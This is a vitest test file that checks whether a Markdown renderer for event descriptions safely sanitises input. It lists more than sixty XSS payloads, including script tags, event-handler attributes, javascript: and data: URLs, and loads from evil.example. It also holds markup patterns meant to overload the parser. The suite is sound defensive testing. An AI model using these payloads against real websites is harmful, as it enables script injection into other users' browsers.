import fc from "fast-check";
import { parse, postprocess, preprocess } from "micromark";
import { expect, test } from "vitest";
import { isWithinBounds, renderMarkdown } from "#worker/discovery/markdown";

/** XSS attempts through a description. */
const attempts = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext></p><img src=x onerror=alert(1)></mtext></math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>">`,
  `<object data="data:text/html,<script>alert(1)</script>">`,
  `<embed src="data:text/html,x">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import url(//evil.example)</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><input name=q><button>Go</button></form>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?php echo '<img src=x onerror=alert(1)>' ?>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<p style="background:url(//evil.example)">x</p>`,
  `<div id="main" class="fixed inset-0">x</div>`,
  `<x onclick=alert(1)>x</x>`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](javascript&#58;alert(1))`,
  `[x](&#106;avascript:alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](java\tscript:alert(1))`,
  `[x](<java\nscript:alert(1)>)`,
  `[x]( javascript:alert(1))`,
  `[x](\u0001javascript:alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://evil.example/1)`,
  `[x](view-source:https://evil.example)`,
  `[x](http://a.example" onmouseover="alert(1))`,
  `[x](http://a.example 'x" onmouseover="alert(1)')`,
  `[x](http://a.example "x' onmouseover='alert(1)")`,
  `[x][1]\n\n[1]: javascript:alert(1)`,
  `[x][1]\n\n[1]: http://a.example "\\" onmouseover=\\"alert(1)"`,
  `<javascript:alert(1)>`,
  `<https://a.example/"onmouseover="alert(1)>`,
  `![x](https://evil.example/pixel.png)`,
  `![x](javascript:alert(1))`,
  `![x" onerror="alert(1)](y)`,
  `![x][1]\n\n[1]: https://evil.example/pixel.png`,
  `[![x](https://evil.example/p.png)](javascript:alert(1))`,
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  '```" onload="alert(1)\nx\n```',
  `    <script>alert(1)</script>`,
  `# <img src=x onerror=alert(1)>`,
  `- <script>alert(1)</script>`,
  `> <iframe src=//evil.example>`,
  `**<b onclick=alert(1)>x</b>**`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `\\<script>alert(1)\\</script>`,
];

const allowed = new Map<string, readonly string[]>(
  "p h3 h4 strong em ul ol li blockquote hr br code pre".split(" ").map((name) => [name, []]),
);
allowed.set("a", ["href", "rel", "title"]);
allowed.set("ol", ["start"]);

test.each(attempts)("a description cannot execute, load or style anything with %s", (attempt) => {
  for (const text of [attempt, `Before ${attempt} after`, `A line\n\n${attempt}\n\nA line`]) {
    const holder = document.createElement("div");
    holder.innerHTML = renderMarkdown(text);
    for (const element of holder.querySelectorAll("*")) {
      const name = element.tagName.toLowerCase();
      expect([...allowed.keys()], `${text}: <${name}>`).toContain(name);
      for (const attribute of element.getAttributeNames())
        expect(allowed.get(name), `${text}: ${name} ${attribute}`).toContain(attribute);
      const href = element.getAttribute("href");
      if (href) {
        expect(new URL(href, "https://stagedoor.test").protocol, text).toMatch(/^(https?|mailto):$/);
        expect(element.getAttribute("rel")).toContain("nofollow");
      }
    }
  }
});

test("there are at least sixty attempts", () => {
  expect(attempts.length).toBeGreaterThanOrEqual(60);
});

test("the Markdown subset is rendered", () => {
  const html = renderMarkdown("# Tonight\n\nBy *Karnad*, **in Hindi**.\n\n- one\n- [two](https://a.example)");
  expect(html).toContain("<h3>Tonight</h3>");
  expect(html).toContain("<em>Karnad</em>");
  expect(html).toMatch(/<a [^>]*href="https:\/\/a\.example"/);
});

const full = (markup: string) => markup.repeat(Math.ceil(20_000 / markup.length)).slice(0, 20_000);

test.each([
  ["quotes in quotes", full(">")],
  ["quotes on every line", full(">>>> a\n")],
  ["lists in lists", full("1. ")],
  ["indented lists", Array.from({ length: 190 }, (_, level) => `${" ".repeat(level)}- a`).join("\n")],
  ["emphasis that is never closed", full("_a*")],
  ["brackets", full("[")],
  ["thousands of headings", full("# a\n")],
  ["headings", "# a b c d e\n".repeat(400)],
  ["underlined headings", "a b c d e\n===\n".repeat(300)],
  ["rules", "---\n".repeat(400)],
  ["entities", full("&amp;")],
  ["escapes", full("\\!")],
  ["addresses", full("<a@b.c> ")],
  ["tabs", full("\t")],
  ["wide gaps", `> a${" ".repeat(40)}b\n`.repeat(100)],
  ["paragraphs", "a b c d e\n\n".repeat(400)],
  ["lines that continue a quote", `> > > > > > a\n${"a b c\n".repeat(900)}`],
  ["code of growing length", Array.from({ length: 190 }, (_, size) => `${"`".repeat(size + 1)}a`).join("")],
])("a description with too much markup (%s) is shown as plain text", (_what, text) => {
  const html = renderMarkdown(text);
  expect(html.replaceAll(/<\/?p>/g, "")).not.toMatch(/<\w/);
  expect(html.length).toBeLessThan(text.length * 6);
});

/** Steps of the parser, a measure of its work that does not depend on the machine. */
function stepsOf(text: string): number {
  if (!isWithinBounds(text)) return 0;
  const chunks = preprocess()(text, undefined, true);
  return postprocess(parse().document().write(chunks)).length;
}

test("the parser's work on a description is bounded, whatever its markup", () => {
  const inline = "[]*_`\\&<".split("");
  const starts = ["", "> ", "> > > ", "- ", "1. ", "# ", "  - ", "    ", "***", "==="];
  const piece = fc.oneof(
    fc.constantFrom(...inline, "\n", "\n\n", "a ", "a b c ", "](b) ", "<http://a.b> ", "&amp;"),
    fc.constantFrom(...starts.map((start) => `\n${start}`)),
  );
  const repeated = fc
    .tuple(fc.array(piece, { minLength: 1, maxLength: 8 }), fc.integer({ min: 1, max: 400 }))
    .map(([pieces, times]) => pieces.join("").repeat(times).slice(0, 20_000));
  fc.assert(fc.property(repeated, (text) => stepsOf(text) <= MOST_STEPS));
  // The most lines, blocks, levels and inline marks that the bounds allow, each alone and together.
  for (const text of [
    "a b c\n".repeat(499),
    "a\n\n".repeat(249),
    "# a\n".repeat(249),
    "> > > > > a\n".repeat(49),
    "- a\n".repeat(249),
    "*a*".repeat(199),
    "- *a* [b](c)\n".repeat(99),
    `${"- *a*\n".repeat(199)}${"a\n".repeat(299)}`,
  ]) {
    expect(isWithinBounds(text)).toBe(true);
    expect(stepsOf(text)).toBeLessThanOrEqual(MOST_STEPS);
  }
});

/** 20,000 characters of plain paragraphs take some 400. */
const MOST_STEPS = 8_000;

test("too much markup is escaped like any other text", () => {
  expect(renderMarkdown(`<img src=x onerror=alert(1)>${full("*")}`)).toMatch(/^<p>&lt;img src=x/);
});

test("a long programme with lists, quotes and emphasis keeps its markup", () => {
  const programme = "> **Act** with _guests_\n>\n> - first\n>   - second\n\n".repeat(40);
  expect(renderMarkdown(programme)).toContain("<strong>Act</strong>");
});
